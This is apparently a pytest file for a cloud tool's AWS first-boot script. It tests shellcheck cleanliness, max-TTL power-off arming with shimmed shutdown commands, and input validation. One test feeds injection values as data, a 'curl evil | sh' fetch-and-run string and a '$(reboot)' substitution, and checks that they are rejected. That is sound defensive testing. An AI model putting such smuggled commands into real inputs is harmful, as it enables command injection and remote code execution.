"""The first-boot script: shellcheck-clean, arms the max-TTL power-off, carries no secret.

It is executed for real with bash; only the two commands that would power this machine off
(systemd-run, shutdown) are replaced by recorders on PATH, since nothing here may be shut down.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from cmlinfra.clouds.aws import userdata
from cmlinfra.errors import UsageError


def test_renders_shellcheck_clean() -> None:
    for port in (22, 2222):
        script = userdata.render("cml-abc", 3600, "2026-11-27T12:00:00Z", ssh_port=port)
        assert script.startswith("#!/bin/bash\n")
        result = subprocess.run(
            ["shellcheck", "-s", "bash", "-"], input=script, capture_output=True, text=True
        )
        assert result.returncode == 0, result.stdout


def _run_with_recorders(script: str, tmp_path: Path, fail: frozenset[str] = frozenset()) -> str:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "calls.log"
    for command in ("systemd-run", "shutdown"):
        code = 1 if command in fail else 0
        shim = bin_dir / command
        shim.write_text(f'#!/bin/sh\necho "{command} $*" >>"{log}"\nexit {code}\n')
        shim.chmod(0o755)
    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "HOME": str(tmp_path)}
    bash = shutil.which("bash")
    assert bash
    result = subprocess.run([bash, "-c", script], env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return log.read_text()


def test_arms_both_poweroff_mechanisms(tmp_path: Path) -> None:
    script = userdata.render("cml-abc", 5400, "2026-11-27T12:00:00Z")
    calls = _run_with_recorders(script, tmp_path)
    assert "systemd-run --unit=cmlinfra-max-ttl" in calls
    assert "--on-active=5400s /bin/systemctl poweroff --force" in calls
    assert "shutdown -P +90 cmlinfra: max TTL of 90 minutes reached" in calls


def test_shutdown_is_armed_even_if_systemd_run_fails(tmp_path: Path) -> None:
    script = userdata.render("cml-abc", 600, "2026-11-27T12:00:00Z")
    calls = _run_with_recorders(script, tmp_path, fail=frozenset({"systemd-run"}))
    assert "shutdown -P +10 " in calls


def test_ttl_defaults_rounds_up_and_refuses_too_short() -> None:
    assert userdata.max_ttl(None) == 24 * 3600
    assert userdata.max_ttl(601) == 660
    with pytest.raises(UsageError, match="too short"):
        userdata.max_ttl(60)


def test_only_validated_values_go_in() -> None:
    with pytest.raises(UsageError):
        userdata.render("x; curl evil | sh", 3600, "2026-11-27T12:00:00Z")
    with pytest.raises(ValueError):
        userdata.render("cml-abc", 3600, "$(reboot)")
